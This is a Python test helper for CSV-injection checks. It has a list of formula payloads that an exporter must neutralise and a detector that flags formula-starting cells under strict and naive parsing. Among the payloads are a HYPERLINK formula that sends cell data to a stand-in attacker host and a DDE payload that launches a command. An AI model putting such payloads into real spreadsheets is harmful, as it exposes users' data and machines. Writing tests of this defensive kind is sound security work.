"""Cells a spreadsheet would evaluate (CSV injection), for the export tests, and the check they all use."""

from __future__ import annotations

import csv
import io
import re

#: givenNames, group names, reasons... that must reach a spreadsheet as text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",          # full-width equals (Japanese IME)
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",         # leading blank, trimmed by some importers
    "\u3000=1",      # ideographic space
    'a";=1+1',       # a quote and a separator trying to start a new cell
]

#: The first characters (after leading blanks) that a spreadsheet evaluates or strips before evaluating.
STARTS = tuple("=+-@\t\r\n\0＝＋－＠﹦﹢﹣﹫")
BLANKS = " \u00a0\u3000\ufeff"


def starts_formula(cell: str) -> bool:
    return cell.lstrip(BLANKS).startswith(STARTS) or cell.startswith(STARTS)


def formula_cells(data: bytes, *, numbers_ok: bool = True) -> list[tuple[str, int, str]]:
    """Every cell of a CSV file that could start a formula, as (how it was read, row or line, cell).

    Read twice: as a spreadsheet honouring the quotes reads it (Python's csv), and as the worst importer would
    (a ";" locale opening a "," file, or one ignoring quotes): every line split at every separator, blanks and
    double quotes stripped from the front of each piece. A piece that is a plain number (``-5``, ``-1.5``) is a
    number, not a formula, when ``numbers_ok``."""
    text = data.decode("utf-8-sig")
    found = []
    for r, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
        for cell in row:
            if not (numbers_ok and _is_number(cell)) and starts_formula(cell):
                found.append(("csv", r, cell))
    for n, line in enumerate(re.split(r"\r\n|\r|\n", text)):
        for piece in re.split(r"[,;\t|]", line):
            bare = piece.lstrip(BLANKS + '"')
            if not (numbers_ok and _is_number(bare.rstrip('"'))) and starts_formula(bare):
                found.append(("split", n, piece))
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
